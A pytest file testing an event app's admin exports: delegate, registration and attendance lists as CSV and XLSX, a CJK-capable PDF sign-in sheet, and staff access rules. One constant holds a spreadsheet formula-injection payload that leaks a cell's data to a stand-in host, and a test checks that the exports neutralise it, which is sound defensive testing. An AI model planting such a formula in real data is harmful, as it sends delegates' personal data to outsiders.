"""Exports for organisers: CSV and XLSX lists that open right in Excel, and sign-in sheets."""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import datetime
from zoneinfo import ZoneInfo

import html5lib
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select

from eventapp.extensions import db
from eventapp.models import CheckIn, Delegate, Registration, StaffRole
from eventapp.services.audit import Actor
from eventapp.services.checkin import scan
from eventapp.services.events import current_event
from eventapp.services.registration import cancel_registration

from .factories import CHINESE, GERMAN, register_by_api, set_session
from .staff_helpers import sign_in

SYMPOSIUM = "german-enterprise-symposium"
FORUM_ZONE = ZoneInfo("Asia/Shanghai")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Details")'
EXPORT_URLS = [
    "/admin/exports",
    "/admin/exports/delegates.csv",
    "/admin/exports/delegates.xlsx",
    "/admin/exports/registrations.csv",
    "/admin/exports/registrations.xlsx",
    f"/admin/exports/sessions/{SYMPOSIUM}/attendance.csv",
    f"/admin/exports/sessions/{SYMPOSIUM}/attendance.xlsx",
    f"/admin/exports/sessions/{SYMPOSIUM}/signin-sheet.pdf",
]


def local_text(moment: datetime) -> str:
    return moment.astimezone(FORUM_ZONE).strftime("%Y-%m-%d %H:%M:%S")


def local_naive(moment: datetime) -> datetime:
    return moment.astimezone(FORUM_ZONE).replace(tzinfo=None, microsecond=0)


def today_in_beijing() -> str:
    return datetime.now(FORUM_ZONE).date().isoformat()


@pytest.fixture
def forum_with_delegates(app, client, forum):
    """A symposium of two seats: 王小明 (checked in at its door) and Jürgen Müller-Lüdenscheidt
    hold them, and a delegate whose organisation is a spreadsheet formula waits."""
    set_session(app, SYMPOSIUM, capacity=2)
    assert register_by_api(client, [SYMPOSIUM, "exhibition"], base=CHINESE).status_code == 201
    assert register_by_api(client, [SYMPOSIUM], base=GERMAN).status_code == 201
    assert (
        register_by_api(
            client,
            [SYMPOSIUM],
            family_name="Formel",
            given_name="Eva",
            organisation=HYPERLINK,
            phone="+49 30 1234567",
        ).status_code
        == 201
    )
    with app.app_context():
        event = current_event()
        wang = db.session.execute(select(Delegate).where(Delegate.name_native == "王小明")).scalar_one()
        assert scan(event, wang.checkin_code, SYMPOSIUM, "scan-wang-1", None).status == "ok"
        checked_in_at = db.session.execute(select(CheckIn.checked_in_at)).scalar_one()
    sign_in(client, app, StaffRole.ORGANISER)
    return {"checked_in_at": checked_in_at}


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # the charset once
    assert response.data.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 byte order mark"
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def xlsx_sheet(response):
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return load_workbook(io.BytesIO(response.data)).active


def xlsx_rows(response) -> list[dict[str, object]]:
    rows = list(xlsx_sheet(response).iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def by_family_name(rows) -> dict[str, dict]:
    return {row["Family name"]: row for row in rows}


def test_delegates_csv_opens_in_excel_with_every_name_and_status(client, forum_with_delegates):
    response = client.get("/admin/exports/delegates.csv")
    rows = csv_rows(response)
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=beijing-china-germany-forum-delegates-{today_in_beijing()}.csv"
    )
    assert response.headers["Cache-Control"] == "private, no-store"
    # Sorted by family name, Chinese names by pinyin: Formel, Müller-Lüdenscheidt, Wang.
    assert [row["Family name"] for row in rows] == ["Formel", "Müller-Lüdenscheidt", "Wang"]
    wang, mueller = by_family_name(rows)["Wang"], by_family_name(rows)["Müller-Lüdenscheidt"]
    assert (wang["Given name"], wang["Name in native script"]) == ("Xiaoming", "王小明")
    assert wang["Organisation"] == "北京精工智能装备有限公司" and wang["Position"] == "总经理"
    assert (wang["Country"], wang["Language"], wang["Organisation type"]) == ("China", "Chinese", "Enterprise")
    assert wang["German Enterprise Symposium"] == "confirmed"
    assert wang["Special Exhibition of Hidden Champions"] == "confirmed"
    assert wang["Opening Ceremony"] == "" and wang["Thematic Forum"] == ""
    assert mueller["Given name"] == "Jürgen"
    assert mueller["Organisation"] == "Weiß & Söhne Präzisionstechnik GmbH"
    assert mueller["Position"] == "Geschäftsführer"
    assert by_family_name(rows)["Formel"]["German Enterprise Symposium"] == "waitlisted (1)"
    assert len(wang["Check-in code"]) == 12
    assert datetime.strptime(wang["Registered at (Asia/Shanghai)"], "%Y-%m-%d %H:%M:%S")


def test_a_chinese_export_has_chinese_headers_and_names_instead_of_codes(client, forum_with_delegates):
    rows = csv_rows(client.get("/admin/exports/delegates.csv?lang=zh"))
    wang = {row["姓氏"]: row for row in rows}["Wang"]
    assert (wang["国家/地区"], wang["语言"], wang["单位类型"]) == ("中国", "中文", "企业")
    assert wang["德企座谈会"] == "已确认"
    assert datetime.strptime(wang["报名时间（Asia/Shanghai）"], "%Y-%m-%d %H:%M:%S")
    registrations = csv_rows(client.get("/admin/exports/registrations.csv?lang=zh"))
    assert {"创建时间（Asia/Shanghai）", "确认时间（Asia/Shanghai）", "取消时间（Asia/Shanghai）"} <= set(
        registrations[0]
    )
    attendance = csv_rows(client.get(f"/admin/exports/sessions/{SYMPOSIUM}/attendance.csv?lang=de"))
    assert "Eingelassen um (Asia/Shanghai)" in attendance[0]
    mueller = {row["Nachname"]: row for row in csv_rows(client.get("/admin/exports/delegates.csv?lang=de"))}[
        "Müller-Lüdenscheidt"
    ]
    assert (mueller["Land"], mueller["Sprache"]) == ("Deutschland", "Deutsch")


def test_delegates_xlsx_holds_the_same_with_real_times(client, app, forum_with_delegates):
    response = client.get("/admin/exports/delegates.xlsx")
    assert response.headers["Content-Disposition"].endswith(f"delegates-{today_in_beijing()}.xlsx")
    rows = xlsx_rows(response)
    assert [row["Family name"] for row in rows] == ["Formel", "Müller-Lüdenscheidt", "Wang"]
    wang = by_family_name(rows)["Wang"]
    assert wang["Name in native script"] == "王小明"
    assert wang["German Enterprise Symposium"] == "confirmed"
    assert by_family_name(rows)["Müller-Lüdenscheidt"]["Organisation"] == "Weiß & Söhne Präzisionstechnik GmbH"
    assert by_family_name(rows)["Formel"]["German Enterprise Symposium"] == "waitlisted (1)"
    with app.app_context():
        created = db.session.execute(select(Delegate.created_at).where(Delegate.family_name == "Wang")).scalar_one()
    assert wang["Registered at (Asia/Shanghai)"] == local_naive(created)


def test_registrations_list_every_registration_with_its_times(client, app, forum_with_delegates):
    with app.app_context():
        mueller_symposium = db.session.execute(
            select(Registration).join(Delegate).where(Delegate.family_name == "Müller-Lüdenscheidt")
        ).scalar_one()
        cancel_registration(mueller_symposium, actor=Actor.staff("organiser@forum.test"))
        cancelled = db.session.execute(select(Registration).where(Registration.id == mueller_symposium.id)).scalar_one()
        cancelled_at, created_at = cancelled.cancelled_at, cancelled.created_at

    rows = csv_rows(client.get("/admin/exports/registrations.csv"))
    assert [(r["Family name"], r["Session"], r["Status"]) for r in rows] == [
        ("Formel", SYMPOSIUM, "confirmed"),  # moved up from the waiting list
        ("Müller-Lüdenscheidt", SYMPOSIUM, "cancelled"),
        ("Wang", "exhibition", "confirmed"),  # programme order: the exhibition opens at 9:00
        ("Wang", SYMPOSIUM, "confirmed"),
    ]
    mueller = rows[1]
    assert mueller["Given name"] == "Jürgen"
    assert mueller["Session title"] == "German Enterprise Symposium"
    assert mueller["Cancelled (Asia/Shanghai)"] == local_text(cancelled_at)
    assert mueller["Created (Asia/Shanghai)"] == local_text(created_at)
    assert rows[3]["Name in native script"] == "王小明" and rows[3]["Confirmed (Asia/Shanghai)"]

    xlsx = xlsx_rows(client.get("/admin/exports/registrations.xlsx"))
    assert [(r["Family name"], r["Status"]) for r in xlsx] == [(r["Family name"], r["Status"]) for r in rows]
    assert xlsx[1]["Cancelled (Asia/Shanghai)"] == local_naive(cancelled_at)
    assert xlsx[0]["Waiting list position"] is None


def test_attendance_shows_who_came_in_and_when_then_the_waiting_list(client, forum_with_delegates):
    checked_in_at = forum_with_delegates["checked_in_at"]
    response = client.get(f"/admin/exports/sessions/{SYMPOSIUM}/attendance.csv")
    assert response.headers["Content-Disposition"].endswith(f"forum-{SYMPOSIUM}-attendance-{today_in_beijing()}.csv")
    rows = csv_rows(response)
    assert [(r["No."], r["Family name"], r["Status"], r["Checked in"]) for r in rows] == [
        ("1", "Müller-Lüdenscheidt", "confirmed", "no"),
        ("2", "Wang", "confirmed", "yes"),
        ("3", "Formel", "waitlisted (1)", "no"),
    ]
    assert rows[1]["Name in native script"] == "王小明"
    assert rows[1]["Checked in at (Asia/Shanghai)"] == local_text(checked_in_at)
    assert rows[0]["Checked in at (Asia/Shanghai)"] == ""

    xlsx = xlsx_rows(client.get(f"/admin/exports/sessions/{SYMPOSIUM}/attendance.xlsx"))
    assert [(r["Family name"], r["Status"]) for r in xlsx] == [
        ("Müller-Lüdenscheidt", "confirmed"),
        ("Wang", "confirmed"),
        ("Formel", "waitlisted (1)"),
    ]
    assert xlsx[1]["Checked in at (Asia/Shanghai)"] == local_naive(checked_in_at)
    # Check-ins at the venue's entrance are not check-ins at the session's door.
    exhibition = csv_rows(client.get("/admin/exports/sessions/exhibition/attendance.csv"))
    assert [(r["Family name"], r["Checked in"]) for r in exhibition] == [("Wang", "no")]


def test_spreadsheet_formulas_in_delegate_data_are_neutralised(client, forum_with_delegates):
    neutral = "'" + HYPERLINK
    for path in ("delegates", "registrations", f"sessions/{SYMPOSIUM}/attendance"):
        rows = csv_rows(client.get(f"/admin/exports/{path}.csv"))
        assert by_family_name(rows)["Formel"]["Organisation"] == neutral, path
        sheet = xlsx_sheet(client.get(f"/admin/exports/{path}.xlsx"))
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value and HYPERLINK in str(cell.value)]
        assert [cell.value for cell in cells] == [neutral], path
        assert cells[0].data_type == "s", "stored as text, never as a formula"
    delegates = by_family_name(csv_rows(client.get("/admin/exports/delegates.csv")))
    assert delegates["Formel"]["Phone"] == "+49 30 1234567", "a phone number is no formula: left as it is"


def test_signin_sheet_prints_chinese_and_german_names_with_an_embedded_cjk_font(client, forum_with_delegates, tmp_path):
    response = client.get(f"/admin/exports/sessions/{SYMPOSIUM}/signin-sheet.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"].endswith(f"forum-{SYMPOSIUM}-signin-sheet-{today_in_beijing()}.pdf")
    reader = PdfReader(io.BytesIO(response.data))
    assert reader.pages[0].mediabox.width == pytest.approx(595, abs=1)  # A4 portrait
    assert reader.pages[0].mediabox.height == pytest.approx(842, abs=1)
    text = "\n".join(page.extract_text() for page in reader.pages)
    squeezed = "".join(text.split())
    assert "王小明" in text and "WANGXiaoming" in squeezed
    assert "Müller-Lüdenscheidt" in squeezed
    assert "Weiß&SöhnePräzisionstechnikGmbH" in squeezed
    assert "Formel" not in text, "the waiting list does not sign in"
    assert "Page1of1" in squeezed
    pdf = tmp_path / "signin.pdf"
    pdf.write_bytes(response.data)
    fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout
    embedded_cjk = [
        line
        for line in fonts.splitlines()
        if "+Noto-Sans-CJK" in line.replace("NotoSansCJK", "Noto-Sans-CJK") and " yes " in line
    ]
    assert embedded_cjk, fonts


def test_without_the_cjk_font_the_sheet_is_refused_with_a_clear_message(client, forum_with_delegates, monkeypatch):
    from eventapp.services import pdf

    monkeypatch.setattr(pdf, "CJK_FONT_FAMILY", "Noto Sans CJK Missing")
    pdf._cjk_font_installed.cache_clear()
    response = client.get(f"/admin/exports/sessions/{SYMPOSIUM}/signin-sheet.pdf")
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/admin/exports?session={SYMPOSIUM}")
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "fonts-noto-cjk" in page and "Noto Sans CJK Missing" in page
    assert f'<option selected value="{SYMPOSIUM}">' in page


def test_exports_page_is_valid_and_its_chooser_leads_to_the_files(client, forum_with_delegates):
    response = client.get("/admin/exports")
    text = response.get_data(as_text=True)
    assert response.status_code == 200
    html5lib.HTMLParser(strict=True, namespaceHTMLElements=False).parse(text)
    assert '<label for="session">Session</label>' in text
    assert 'href="/admin/exports/delegates.csv"' in text and 'href="/admin/exports/registrations.xlsx"' in text
    for download, path in [
        ("attendance.csv", f"/admin/exports/sessions/{SYMPOSIUM}/attendance.csv"),
        ("attendance.xlsx", f"/admin/exports/sessions/{SYMPOSIUM}/attendance.xlsx"),
        ("signin-sheet.pdf", f"/admin/exports/sessions/{SYMPOSIUM}/signin-sheet.pdf"),
    ]:
        chosen = client.get(f"/admin/exports/session?session={SYMPOSIUM}&download={download}")
        assert chosen.status_code == 303 and chosen.headers["Location"].endswith(path)
    wrong = client.get("/admin/exports/session?session=gala-dinner&download=attendance.csv")
    assert wrong.status_code == 422
    html5lib.HTMLParser(strict=True, namespaceHTMLElements=False).parse(wrong.get_data(as_text=True))
    assert "Not a valid choice" in wrong.get_data(as_text=True)


def test_unknown_sessions_and_formats_are_not_found(client, forum_with_delegates):
    assert client.get("/admin/exports/sessions/gala-dinner/attendance.csv").status_code == 404
    assert client.get("/admin/exports/sessions/gala-dinner/signin-sheet.pdf").status_code == 404
    assert client.get("/admin/exports/delegates.json").status_code == 404
    assert client.get(f"/admin/exports/sessions/{SYMPOSIUM}/attendance.pdf").status_code == 404


@pytest.mark.parametrize("path", EXPORT_URLS)
def test_door_staff_are_refused_and_visitors_sent_to_sign_in(app, forum, path):
    visitor = app.test_client()
    response = visitor.get(path)
    assert response.status_code == 302 and "/staff/login" in response.headers["Location"]
    door = sign_in(app.test_client(), app, StaffRole.DOOR)
    assert door.get(path).status_code == 403
